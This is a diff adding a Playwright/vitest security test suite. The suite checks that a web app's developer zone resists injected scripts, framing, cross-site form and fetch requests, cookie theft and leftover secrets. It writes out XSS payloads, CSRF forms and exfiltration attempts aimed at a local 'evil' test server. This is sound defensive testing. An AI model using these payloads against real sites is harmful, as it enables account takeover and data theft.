@@ -1,0 +1,436 @@
+// What the browser itself has to refuse: scripts that somebody injected, frames, and other websites that write or read in
+// a member's name. A real Chromium with web security as a person has it; evil is a server of its own, on another site
+// (127.0.0.1) and on the same one (localhost, another port), where SameSite cookies still travel.
+import { createServer } from 'node:http';
+import type { Server as HttpServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { openBrowser, signedInState } from './browser.ts';
+import { startDeployment, type Deployment } from './deployment.ts';
+import { withBoot } from './fixtures.ts';
+import { startServer, type Server } from './server.ts';
+
+let zone: Server;
+/** A deployment that lets one website in, and which. */
+let open: Deployment;
+let evil: HttpServer;
+let port: number;
+let browser: Browser;
+let owner: Awaited<ReturnType<typeof signedInState>>;
+let context: BrowserContext;
+let page: Page;
+/** What evil's pages say, by path. */
+const pages = new Map<string, string>();
+
+beforeAll(async () => {
+  evil = createServer((request, reply) => {
+    reply.setHeader('content-type', 'text/html; charset=utf-8');
+    reply.end(pages.get(request.url ?? '') ?? '<!doctype html><title>evil</title>');
+  });
+  await new Promise<void>((done) => {
+    evil.listen(0, done);
+  });
+  // Listening on a port, so the address is one.
+  ({ port } = evil.address() as AddressInfo);
+  [zone, open, browser] = await Promise.all([
+    startServer(),
+    startDeployment({ CORS_ORIGINS: `http://127.0.0.1:${port}` }),
+    openBrowser(),
+  ]);
+  owner = await signedInState(browser, zone.origin);
+});
+afterAll(async () => {
+  await browser?.close();
+  evil?.close();
+  await Promise.all([zone?.stop(), open?.stop()]);
+});
+beforeEach(async () => {
+  context = await browser.newContext({ storageState: owner });
+  context.setDefaultTimeout(10_000);
+  page = await context.newPage();
+});
+afterEach(() => context.close());
+
+const SITES = { 'another site': '127.0.0.1', 'a sibling on the same site': 'localhost' };
+const evilAt = (host: string, path = '/'): string => `http://${host}:${port}${path}`;
+
+/** As the owner sees it: what evil must not have changed. */
+async function stateOfAll(): Promise<string> {
+  const cookie = owner.cookies.map(({ name, value }) => `${name}=${value}`).join('; ');
+  const paths = ['organisations/acme/tokens', 'sessions', 'session'];
+  const answers = await Promise.all(
+    paths.map(async (path) => fetch(`${zone.origin}/api/${path}`, { headers: { cookie } })),
+  );
+  expect(answers.map(({ status }) => status)).toEqual([200, 200, 200]);
+  const texts = await Promise.all(answers.map((answer) => answer.text()));
+  return texts.join('\n').replaceAll(/"seenAt":"[^"]*"/g, '');
+}
+
+/** The page as the Worker sends it, headers and all, with something in it that is not ours. */
+async function visitWith(injected: string): Promise<string[]> {
+  const refused: string[] = [];
+  page.on('console', (message) => {
+    if (/Content Security Policy|Trusted/i.test(message.text())) refused.push(message.text());
+  });
+  await page.route(`${zone.origin}/developer-zone*`, async (route) => {
+    const answer = await route.fetch();
+    const body = (await answer.text()).replace('</body>', `${injected}</body>`);
+    await route.fulfill({ response: answer, body });
+  });
+  await page.goto(`${zone.origin}/developer-zone?organisation=acme`);
+  await page.getByRole('heading', { level: 1 }).waitFor();
+  return refused;
+}
+
+const isPwned = (): Promise<unknown> => page.evaluate(() => Reflect.get(window, 'pwned'));
+
+describe('the policy of a page', () => {
+  it('refuses whatever was injected into it: scripts, handlers, frames, objects, styles', async () => {
+    pages.set('/pwn.js', 'window.pwned = 1');
+    const injected = {
+      'script-src': '<script>window.pwned = 1</script>',
+      'pwn.js': `<script src="${evilAt('127.0.0.1', '/pwn.js')}"></script>`,
+      'inline event handler':
+        '<img src="x:" onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>',
+      'img-src': `<img src="${evilAt('127.0.0.1', '/seen.png')}">`,
+      'data:text/html': '<iframe src="data:text/html,x"></iframe>',
+      'object-src|default-src': '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
+      'style-src': '<style>body { display: none }</style>',
+    };
+    const refused = await visitWith(
+      `${Object.values(injected).join('')}<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
+    );
+    for (const word of Object.keys(injected)) {
+      await expect
+        .poll(() => refused.some((text) => new RegExp(word).test(text)), { message: word })
+        .toBe(true);
+    }
+    expect(await isPwned()).toBeUndefined();
+    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
+  });
+
+  it('takes no text for code: every way to make a script, HTML or a handler of a string throws or does nothing', async () => {
+    await visitWith('');
+    const attempts = await page.evaluate(() => {
+      const bad = '<img src="x:" onerror="window.pwned = 1">';
+      const script = document.createElement('script');
+      const ways: Record<string, () => unknown> = {
+        innerHTML: () => (document.body.innerHTML = bad),
+        outerHTML: () => (document.body.outerHTML = bad),
+        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', bad),
+        write: () => document.write(bad),
+        createContextualFragment: () => document.createRange().createContextualFragment(bad),
+        parseFromString: () => new DOMParser().parseFromString(bad, 'text/html'),
+        srcdoc: () => (document.createElement('iframe').srcdoc = bad),
+        'script.src': () => (script.src = 'data:text/javascript,window.pwned=1'),
+        'script.text': () => (script.text = 'window.pwned = 1'),
+        'a policy of its own': () =>
+          (
+            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+          ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
+      };
+      const allowed = Object.entries(ways).filter(([, way]) => {
+        try {
+          way();
+          return true;
+        } catch {
+          return false;
+        }
+      });
+      // Text that becomes a script without a sink: the policy meets it when it is to run.
+      script.append(document.createTextNode('window.pwned = 1'));
+      document.head.append(script);
+      const link = document.createElement('a');
+      link.href = 'javascript:window.pwned = 1';
+      document.body.append(link);
+      link.click();
+      return allowed.map(([name]) => name);
+    });
+    expect(attempts).toEqual([]);
+    expect(await isPwned()).toBeUndefined();
+  });
+
+  it('lets no injected form or base send anything elsewhere', async () => {
+    const form = `<form action="${evilAt('127.0.0.1', '/taken')}" method="post"><button id="go">x</button></form>`;
+    const refused = await visitWith(`<base href="${evilAt('127.0.0.1')}">${form}`);
+    expect(await page.evaluate(() => document.baseURI)).toContain(zone.origin);
+    await page.evaluate(() => document.querySelector<HTMLButtonElement>('#go')?.click());
+    await expect.poll(() => refused.some((text) => text.includes('form-action'))).toBe(true);
+    expect(page.url()).toContain(zone.origin);
+  });
+
+  it.each(Object.entries(SITES))('lets %s frame no page', async (_, host) => {
+    pages.set(
+      '/frames',
+      ['/developer-zone?organisation=acme', '/sign-in', '/activity', '/docs']
+        .map((path) => `<iframe src="${zone.origin}${path}"></iframe>`)
+        .join(''),
+    );
+    await page.goto(evilAt(host, '/frames'), { waitUntil: 'load' });
+    const frames = page.frames().filter((frame) => frame !== page.mainFrame());
+    expect(frames).toHaveLength(4);
+    // A frame that was refused shows the browser's own error page.
+    expect(frames.map((frame) => frame.url())).toEqual(
+      Array<string>(4).fill('chrome-error://chromewebdata/'),
+    );
+  });
+});
+
+describe('the cookies', () => {
+  it('are for this host and HTTP alone, and no script sees them', async () => {
+    await page.goto(zone.origin);
+    const kept = await context.cookies();
+    const session = kept.find(({ name }) => name === '__Host-session');
+    expect(session).toMatchObject({
+      httpOnly: true,
+      secure: true,
+      sameSite: 'Lax',
+      path: '/',
+      domain: 'localhost',
+    });
+    for (const cookie of kept.filter(({ name }) => name.startsWith('__Host-'))) {
+      expect(cookie).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Lax' });
+    }
+    expect(await page.evaluate(() => document.cookie)).not.toContain(session?.value);
+    expect(await page.evaluate(() => document.cookie)).not.toContain('__Host-');
+  });
+});
+
+describe('a write from elsewhere', () => {
+  const targets = ['/api/organisations/acme/tokens', '/api/sign-out', '/api/sessions/sign-out-everywhere'];
+
+  it.each(Object.entries(SITES))('changes nothing: forms of every type, from %s', async (_, host) => {
+    const before = await stateOfAll();
+    const types = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
+    const statuses: number[] = [];
+    page.on('response', (answer) => {
+      if (answer.url().startsWith(`${zone.origin}/api/`)) statuses.push(answer.status());
+    });
+    for (const type of types) {
+      pages.set(
+        '/form',
+        targets
+          .map(
+            (path, index) =>
+              `<iframe name="f${index}"></iframe><form target="f${index}" action="${zone.origin}${path}" method="post" enctype="${type}"><input name='{"name":"pwned","a":"' value='"}'></form>`,
+          )
+          .join('') + '<script>for (const form of document.forms) form.submit()</script>',
+      );
+      await page.goto(evilAt(host, '/form'));
+      await expect.poll(() => statuses.length).toBe(3);
+      expect(statuses.splice(0)).toEqual([403, 403, 403]);
+    }
+    // At the top, where a Lax cookie would travel with a link.
+    pages.set(
+      '/top',
+      `<form action="${zone.origin}${targets[1]}" method="post"></form><script>document.forms[0].submit()</script>`,
+    );
+    await page.goto(evilAt(host, '/top'));
+    await expect.poll(() => statuses.length).toBe(1);
+    expect(statuses).toEqual([403]);
+    expect(await stateOfAll()).toBe(before);
+  });
+
+  it.each(Object.entries(SITES))('changes nothing: fetch in every mode, from %s', async (_, host) => {
+    const before = await stateOfAll();
+    const printed = zone.output().length;
+    await page.goto(evilAt(host));
+    const outcomes = await page.evaluate(
+      async ([origin, paths]) => {
+        const body = '{"name":"pwned"}';
+        const modes: RequestInit[] = [
+          { mode: 'no-cors', method: 'POST', body },
+          { mode: 'no-cors', method: 'POST', body: new Blob([body], { type: 'text/plain' }) },
+          { mode: 'no-cors', method: 'POST', body: new URLSearchParams({ name: 'pwned' }) },
+          { mode: 'no-cors', method: 'POST' },
+          { method: 'POST', body, headers: { 'content-type': 'application/json' } },
+          { method: 'POST', body, headers: { 'content-type': 'text/plain' } },
+          { method: 'PUT', body },
+          { method: 'DELETE' },
+        ];
+        const said: string[] = [];
+        for (const path of paths) {
+          for (const mode of modes) {
+            const outcome = await fetch(origin + path, { ...mode, credentials: 'include' }).then(
+              (answer) => answer.type,
+              () => 'refused',
+            );
+            said.push(outcome);
+          }
+          navigator.sendBeacon(origin + path, body);
+        }
+        return said;
+      },
+      [zone.origin, targets] as const,
+    );
+    // Nothing of any answer is seen, though some were sent.
+    expect(new Set(outcomes)).toEqual(new Set(['refused']));
+    expect(zone.output().slice(printed)).toMatch(/cross-site-request/);
+    expect(await stateOfAll()).toBe(before);
+  });
+
+  it('changes nothing: a sandboxed frame, whose origin is null', async () => {
+    const before = await stateOfAll();
+    const statuses: number[] = [];
+    page.on('response', (answer) => {
+      if (answer.url().startsWith(`${zone.origin}/api/`)) statuses.push(answer.status());
+    });
+    const form = `<form action='${zone.origin}${targets[0]}' method='post' enctype='text/plain'></form><script>document.forms[0].submit()</script>`;
+    pages.set('/sandbox', `<iframe sandbox="allow-scripts allow-forms" srcdoc="${form}"></iframe>`);
+    await page.goto(evilAt('localhost', '/sandbox'));
+    await expect.poll(() => statuses.length).toBe(1);
+    expect(statuses).toEqual([403]);
+    expect(await stateOfAll()).toBe(before);
+  });
+
+  it.each(Object.entries(SITES))(
+    'reads nothing either: pages, lists and exports, from %s',
+    async (_, host) => {
+      await page.goto(evilAt(host));
+      const read = await page.evaluate(async (origin) => {
+        const paths = [
+          '/api/session',
+          '/api/organisations/acme/tokens',
+          '/api/organisations/acme/activity.csv',
+          '/developer-zone?organisation=acme',
+        ];
+        const texts = [];
+        for (const path of paths) {
+          for (const mode of ['cors', 'no-cors'] as const) {
+            texts.push(
+              await fetch(origin + path, { mode, credentials: 'include' })
+                .then((answer) => answer.text())
+                .catch(() => ''),
+            );
+          }
+        }
+        return texts.join('');
+      }, zone.origin);
+      expect(read).toBe('');
+    },
+  );
+});
+
+describe('a website with a token', () => {
+  const call = (origin: string, secret: string) =>
+    page.evaluate(
+      async ([url, token]) => {
+        const headers = { authorization: `Bearer ${token}` };
+        return fetch(`${url}/v1/ping`, { headers }).then(
+          async (answer) =>
+            `${answer.status} ${answer.headers.get('x-request-id') === null ? 'without id' : 'with id'}`,
+          () => 'refused',
+        );
+      },
+      [origin, secret] as const,
+    );
+
+  it('may call where the deployment names it, reads refusals as well, and no other website may', async () => {
+    const { secret } = await open.givenToken();
+    await page.goto(evilAt('127.0.0.1'));
+    expect(await call(open.origin, secret)).toBe('200 with id');
+    expect(await call(open.origin, 'x')).toBe('401 with id');
+    await page.goto(evilAt('localhost'));
+    expect(await call(open.origin, secret)).toBe('refused');
+    pages.set('/null', '<iframe sandbox="allow-scripts" srcdoc="<p>null</p>"></iframe>');
+    await page.goto(evilAt('127.0.0.1', '/null'));
+    const [, sandboxed] = page.frames();
+    const inSandbox = await sandboxed?.evaluate(
+      async ([url, token]) =>
+        fetch(`${url}/v1/ping`, { headers: { 'x-api-key': token } }).then(
+          (answer) => String(answer.status),
+          () => 'refused',
+        ),
+      [open.origin, secret] as const,
+    );
+    expect(inSandbox).toBe('refused');
+  });
+
+  it('may not call where the deployment names none', async () => {
+    await page.goto(evilAt('127.0.0.1'));
+    expect(await call(zone.origin, 'x')).toBe('refused');
+  });
+});
+
+describe('hostile text', () => {
+  const BAD = `"><img src=x: onerror=window.pwned=1><script>window.pwned=1</script>{{7*7}}\${7*7}`;
+
+  it('is text in names of organisations and tokens, in addresses, and in the address bar', async () => {
+    await withBoot(page, {
+      product: { name: BAD, contactUrl: 'https://example.com' },
+      session: {
+        member: { email: `${BAD}@example.com` },
+        organisations: [{ id: 'acme', name: BAD, plan: 'enterprise' }],
+      },
+      tokens: {
+        organisation: 'acme',
+        limit: 10,
+        tokens: [
+          {
+            id: 'a',
+            preview: '<b>12',
+            name: BAD,
+            active: true,
+            createdBy: BAD,
+            createdAt: new Date().toISOString(),
+            lastUsedAt: null,
+          },
+        ],
+      },
+    });
+    await page.goto(
+      `${zone.origin}/developer-zone?organisation=acme&${encodeURIComponent(BAD)}=${encodeURIComponent(BAD)}`,
+    );
+    await page.getByRole('switch').waitFor();
+    const text = await page.evaluate(() => document.body.innerText);
+    expect(text).toContain('<script>window.pwned=1</script>');
+    expect(text).toContain('<b>12***');
+    expect(await page.evaluate(() => document.querySelectorAll('[onerror]').length)).toBe(0);
+    expect(await isPwned()).toBeUndefined();
+  });
+
+  it.each([
+    `/sign-in?error=${encodeURIComponent(BAD)}`,
+    `/sign-in?return_to=${encodeURIComponent('javascript:window.pwned=1')}`,
+    `/sign-in#code=${encodeURIComponent(BAD)}`,
+    `/developer-zone?organisation=${encodeURIComponent(BAD)}`,
+    `/activity?organisation=${encodeURIComponent(BAD)}`,
+    `/docs?${encodeURIComponent(BAD)}`,
+    `/${encodeURIComponent(BAD)}`,
+    `/v1/${encodeURIComponent(BAD)}`,
+  ])('does nothing at %s', async (path) => {
+    if (path.startsWith('/sign-in')) await context.clearCookies();
+    await page.goto(zone.origin + path);
+    expect(await isPwned()).toBeUndefined();
+    expect(await page.evaluate(() => document.querySelectorAll('[onerror]').length)).toBe(0);
+  });
+});
+
+describe('the secret', () => {
+  it('is gone when the page is left with it open, also from what the back button finds', async () => {
+    await page.goto(`${zone.origin}/developer-zone?organisation=acme`);
+    await page.getByRole('button', { name: 'Create Token', exact: true }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Create Token' }).click();
+    const field = page.getByRole('dialog').getByLabel('API token', { exact: true });
+    const secret = await field.inputValue();
+    expect(secret).toMatch(/^9p/);
+    expect(await field.getAttribute('autocomplete')).toBe('off');
+    page.on('dialog', (dialog) => void dialog.accept());
+    await page.goto(`${zone.origin}/docs`);
+    await page.goBack();
+    await page.getByRole('switch').first().waitFor();
+    const traces = await page.evaluate(() =>
+      JSON.stringify([
+        document.documentElement.outerHTML,
+        [...document.querySelectorAll('input')].map(({ value }) => value),
+        Object.entries(localStorage),
+        Object.entries(sessionStorage),
+        history.state,
+        location.href,
+      ]),
+    );
+    expect(traces).not.toContain(secret);
+    expect(JSON.stringify(await context.storageState({ indexedDB: true }))).not.toContain(secret);
+  });
+});
